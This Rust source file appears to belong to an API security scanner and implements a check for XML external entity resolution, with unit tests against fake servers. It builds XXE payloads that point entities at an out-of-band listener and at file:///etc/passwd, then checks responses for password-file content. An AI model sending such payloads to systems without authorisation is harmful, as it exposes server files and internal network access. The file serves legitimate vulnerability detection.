//! An XML reader resolves external entities.

use serde_json::Value;

use crate::{
    call::{Call, Edit},
    check::{Check, Info, Phase, Proof, Risk, Target, Verdict},
    finding::{Section, Severity, Shield},
    model::{Effect, Operation, Wire},
    script::{Flow, Planted, Script},
    wire::{Answer, Outcome},
    world::{Good, World, freshened},
};

static INFO: Info = Info {
    id: "entity_resolved",
    title: "An XML reader resolves external entities",
    section: Section::Security,
    severity: Severity::High,
    risk: Risk::Safe,
    phase: Phase::Probe,
    owasp: "API8:2023",
    cwe: 611,
    wfc: None,
    remedy: "Refuse documents with a document type, or switch document types, external entities and external parameter \
             entities off in the reader. Take XML only where the operation is made for it.",
    oracle: "The out-of-band listener was called by the address of an external entity with a token of ours, or a file \
             that every system has comes back in an entity's place, and not without it.",
    requests_max: 8,
};

/// The check.
pub(super) struct EntityResolved;

impl Check for EntityResolved {
    fn info(&self) -> &'static Info {
        &INFO
    }

    fn targets(&self, world: &World) -> Vec<Target> {
        let reached = world.reached().filter(|(_, operation, _)| {
            matches!(operation.wire, Wire::Rest { .. })
                && operation.body.is_some()
                && matches!(operation.effect, Effect::Reads | Effect::Creates | Effect::Acts)
        });
        reached.map(|(index, _, _)| Target::operation(index)).collect()
    }

    fn run(&self, world: &World, target: &Target, script: &mut Script<'_>) -> Flow<Verdict> {
        let known =
            target.operation.and_then(|index| Some((world.model.operation(index)?, world.good(index)?)));
        let Some((operation, good)) = known else { return script.skip("no good call of it is known") };
        let Some(document) = document(operation, good) else { return script.skip("its body cannot be XML") };
        let media = media(operation);
        // An entity of our own, inside the document: a reader that is not XML at all, or refuses document types, says so
        // here, before anything is waited for.
        let word = script.word(12);
        let inner = with_entity(&document, &format!("<!ENTITY e \"{word}\">"));
        let sent = call(world, good, script, &media, &inner);
        let (_, answer) = script.send(sent)?;
        if !answer.done() && !answer.holds(&word) && answer.outcome != Outcome::Broken {
            return Ok(Verdict::Clean);
        }
        if let Some((token, url)) = script.token() {
            let planted = Planted { status: 200, headers: Vec::new(), body: String::new() };
            script.plant(&token, planted)?;
            let declared = format!("<!ENTITY e SYSTEM \"{url}\"><!ENTITY % p SYSTEM \"{url}\"> %p;");
            let outer = with_entity(&document, &declared);
            let sent = call(world, good, script, &media, &outer);
            let (number, _) = script.send(sent)?;
            if let Some(hit) = script.hits(&token)?.first() {
                let line = hit.text.lines().next().unwrap_or_default();
                let summary = format!("an external entity made the reader call us by {}: `{line}`", hit.by);
                return Ok(found(summary, vec![(number, "probe")]));
            }
        }
        let declared = "<!ENTITY e SYSTEM \"file:///etc/passwd\">";
        let sent = call(world, good, script, &media, &with_entity(&document, declared));
        let (number, answer) = script.send(sent)?;
        if !passwd(&answer) || passwd(&good.answer) {
            return Ok(Verdict::Clean);
        }
        let word = script.word(12);
        let absent = with_entity(&document, &format!("<!ENTITY e SYSTEM \"file:///etc/{word}\">"));
        let sent = call(world, good, script, &media, &absent);
        let (control, other) = script.send(sent)?;
        if passwd(&other) {
            return Ok(Verdict::Clean);
        }
        let summary = "an external entity brought the content of `/etc/passwd`".to_owned();
        Ok(found(summary, vec![(number, "probe"), (control, "control")]))
    }
}

fn found(summary: String, exchanges: Vec<(usize, &'static str)>) -> Verdict {
    Verdict::Found(vec![Proof::confirmed(summary, exchanges, Shield::AttackRule)])
}

fn passwd(answer: &Answer) -> bool {
    answer.text().contains("root:x:0:0:") || answer.text().contains("root:*:0:0:")
}

fn media(operation: &Operation) -> String {
    let declared = operation.body.iter().flat_map(|body| &body.media).find(|it| it.contains("xml"));
    declared.cloned().unwrap_or_else(|| "application/xml".to_owned())
}

/// The good body as XML: as it was sent where it was XML, otherwise written from its JSON.
fn document(operation: &Operation, good: &Good) -> Option<String> {
    let sent = String::from_utf8_lossy(&good.answer.request.body);
    if sent.trim_start().starts_with('<') {
        return Some(sent.into_owned());
    }
    match good.call.body.as_ref()? {
        Value::String(text) if text.trim_start().starts_with('<') => Some(text.clone()),
        Value::Object(members) => {
            let name = operation.body.as_ref()?.schema.pointer("/xml/name").and_then(Value::as_str);
            let mut out = String::new();
            for (key, value) in members {
                let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
                let text = text.replace('&', "&amp;").replace('<', "&lt;");
                if key.bytes().all(|it| it.is_ascii_alphanumeric() || it == b'_') {
                    out.push_str(&format!("<{key}>{text}</{key}>"));
                }
            }
            let name = name.unwrap_or("root");
            Some(format!("<{name}>{out}</{name}>"))
        }
        _ => None,
    }
}

/// The document with a document type, and the entity `e` at the end of every text in it.
fn with_entity(document: &str, declared: &str) -> String {
    let (declaration, rest) = match document.trim_start().split_once("?>") {
        Some((head, rest)) if head.starts_with("<?xml") => (format!("{head}?>"), rest.trim_start()),
        _ => (String::new(), document.trim_start()),
    };
    let root: String = rest
        .trim_start_matches('<')
        .chars()
        .take_while(|it| it.is_alphanumeric() || matches!(it, '_' | '-' | ':' | '.'))
        .collect();
    let mut out = format!("{declaration}<!DOCTYPE {root} [{declared}]>");
    let mut in_text = false;
    for character in rest.chars() {
        // Text that ends at an end tag: the entity goes behind it, so that every leaf holds it.
        if character == '<' && in_text {
            out.push_str("&e;");
        }
        in_text = if character == '<' || character == '>' { false } else { in_text || out.ends_with('>') };
        out.push(character);
    }
    out
}

fn call(world: &World, good: &Good, script: &mut Script<'_>, media: &str, document: &str) -> Call {
    freshened(good.call.clone(), &good.fresh, world, script)
        .edited(Edit::SetHeader("content-type".to_owned(), media.to_owned()))
        .edited(Edit::RawBody(document.as_bytes().to_vec()))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::script::rehearse::{Ask, Fake, Stage, answer, body};

    fn stage() -> Stage {
        Stage::new()
            .op("POST /import", Effect::Acts, json!({"note": "door"}))
            .slot(body("/note"), json!("door"))
    }

    #[test]
    fn puts_an_entity_at_the_end_of_every_text() {
        assert_eq!(
            with_entity("<?xml version=\"1.0\"?>\n<a b=\"c\"><d>x y</d><e>z</e></a>", "D"),
            "<?xml version=\"1.0\"?><!DOCTYPE a [D]><a b=\"c\"><d>x y&e;</d><e>z&e;</e></a>"
        );
    }

    #[test]
    fn finds_a_file_in_an_entity() {
        let stage = stage();
        let mut fake = Fake::new(&stage.world, |ask: &Ask| {
            let sent = ask.body.as_str().unwrap_or_default().to_owned();
            let note = match sent.split_once("<!ENTITY e ") {
                Some((_, rest)) if rest.starts_with("SYSTEM \"file:///etc/passwd\"") => {
                    "root:x:0:0:".to_owned()
                }
                Some((_, rest)) if rest.starts_with('"') => rest.split('"').nth(1).unwrap().to_owned(),
                _ => String::new(),
            };
            answer(200, json!({"note": note}))
        });
        assert_eq!(fake.confirmed(&EntityResolved), 1);
    }

    #[test]
    fn costs_one_call_where_xml_or_document_types_are_refused() {
        let stage = stage();
        let mut fake = Fake::new(&stage.world, |_: &Ask| answer(415, json!({})));
        assert!(fake.all(&EntityResolved).is_empty());
        assert_eq!(fake.calls, 1);
        let mut echo = Fake::new(&stage.world, |ask: &Ask| answer(400, json!({"bad": ask.body})));
        assert!(echo.all(&EntityResolved).is_empty());
    }
}
